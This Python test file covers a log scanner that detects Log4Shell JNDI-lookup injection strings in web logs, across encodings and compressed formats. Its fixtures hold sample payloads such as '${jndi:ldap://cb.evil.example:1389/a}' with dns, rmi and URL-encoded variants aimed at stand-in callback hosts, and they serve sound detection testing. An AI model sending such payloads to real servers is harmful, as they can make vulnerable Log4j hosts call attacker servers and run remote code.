"""The log scanner: formats, encodings, positions, and recall and false positives on the
generated corpora (``bench/scan_logs_corpus.py``)."""

from __future__ import annotations

import bz2
import gzip
import io
import lzma
import zipfile
from pathlib import Path

import pytest
import zstandard
from bench.scan_logs_corpus import attempts, benign_lines

from clearinghouse.scan.logs import BLOCK, LogLimits, LogScan, scan_logs, scan_stream

ATTACK = (
    b'1.2.3.4 - - [10/Dec/2021] "GET /?x=${jndi:ldap://cb.evil.example:1389/a} HTTP/1.1" 200 1\n'
)
BENIGN = b'10.0.0.1 - - [10/Dec/2021] "GET /index.html HTTP/1.1" 200 512 "-" "curl/8.5.0"\n'


def stream(data: bytes, limits: LogLimits | None = None) -> LogScan:
    scan = LogScan()
    scan_stream("mem", io.BytesIO(data), scan, limits or LogLimits())
    return scan


def test_line_number_offset_and_callback_are_reported() -> None:
    data = BENIGN * 3 + ATTACK + BENIGN
    scan = stream(data)
    (finding,) = scan.findings
    assert finding.line == 4
    assert finding.offset == len(BENIGN) * 3 + ATTACK.index(b"${")
    assert data[finding.offset : finding.offset + 7] == b"${jndi:"
    assert (finding.payload.protocol, finding.payload.host, finding.payload.port) == (
        "ldap",
        "cb.evil.example",
        1389,
    )
    assert scan.lines == 5


def test_positions_stay_right_across_blocks_and_without_a_final_newline() -> None:
    filler = BENIGN * (BLOCK // len(BENIGN) + 7)
    data = filler + ATTACK + filler + ATTACK.rstrip(b"\n")
    scan = stream(data)
    assert [f.line for f in scan.findings] == [
        filler.count(b"\n") + 1,
        2 * filler.count(b"\n") + 2,
    ]
    for finding in scan.findings:
        assert data[finding.offset : finding.offset + 2] == b"${"
    assert scan.lines == 2 * filler.count(b"\n") + 2


def test_any_field_and_invalid_bytes_and_latin1() -> None:
    lines = [
        b'{"user":"\xff\xfe${jndi:dns://json.example/a}","msg":"caf\xe9"}\n',
        "agent=Mozilla/5.0 日本語 ${jndi:rmi://utf8.example/a}\n".encode(),
        b"X-Api-Version: %24%7Bjndi:ldap://header.example/a%7D\n",
    ]
    scan = stream(b"".join(lines))
    assert [f.payload.host for f in scan.findings] == [
        "json.example",
        "utf8.example",
        "header.example",
    ]


@pytest.mark.parametrize("kind", ["plain", "gzip", "bzip2", "xz", "zstd", "zip"])
def test_every_compression_is_read(kind: str, tmp_path: Path) -> None:
    data = BENIGN * 10 + ATTACK
    path = tmp_path / f"access.{kind}"
    match kind:
        case "plain":
            path.write_bytes(data)
        case "gzip":
            path.write_bytes(gzip.compress(data))
        case "bzip2":
            path.write_bytes(bz2.compress(data))
        case "xz":
            path.write_bytes(lzma.compress(data))
        case "zstd":
            path.write_bytes(zstandard.ZstdCompressor().compress(data))
        case _:
            with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
                archive.writestr("logs/access.log", data)
    scan = scan_logs([path])
    assert [(f.line, f.payload.host) for f in scan.findings] == [(11, "cb.evil.example")]
    assert scan.problems == []
    expected_name = f"{path} > logs/access.log" if kind == "zip" else str(path)
    assert scan.findings[0].file == expected_name


def test_unreadable_and_corrupt_files_are_listed_with_their_error(tmp_path: Path) -> None:
    (tmp_path / "broken.gz").write_bytes(gzip.compress(ATTACK * 100)[:50])
    (tmp_path / "dangling.log").symlink_to(tmp_path / "nowhere.log")
    (tmp_path / "ok.log").write_bytes(ATTACK)
    scan = scan_logs([tmp_path])
    assert [f.file for f in scan.findings] == [str(tmp_path / "ok.log")]
    reasons = {Path(p.file).name: p.reason for p in scan.problems}
    assert set(reasons) == {"broken.gz", "dangling.log"}
    assert "EOFError" in reasons["broken.gz"]


def test_findings_per_stream_are_bounded() -> None:
    scan = stream(ATTACK * 50, LogLimits(max_findings_per_stream=10))
    assert len(scan.findings) == 10
    assert scan.dropped_findings == 40


def test_full_recall_on_ten_thousand_generated_obfuscations() -> None:
    generated = list(attempts(10_000))
    scan = stream(("\n".join(a.line for a in generated) + "\n").encode())
    by_line: dict[int, set[str | None]] = {}
    for finding in scan.findings:
        by_line.setdefault(finding.line, set()).add(finding.payload.host)
    missed = [a for n, a in enumerate(generated, 1) if a.host not in by_line.get(n, set())]
    assert missed == []
    assert len(scan.findings) == len(generated)  # one finding per attempt, no duplicates


@pytest.mark.slow
def test_no_false_positive_on_a_million_benign_lines() -> None:
    data = ("\n".join(benign_lines(1_000_000)) + "\n").encode()
    assert data.count(b"${") > 10_000  # the corpus does hold lookalikes
    scan = stream(data)
    assert scan.findings == []
    assert scan.lines == 1_000_000
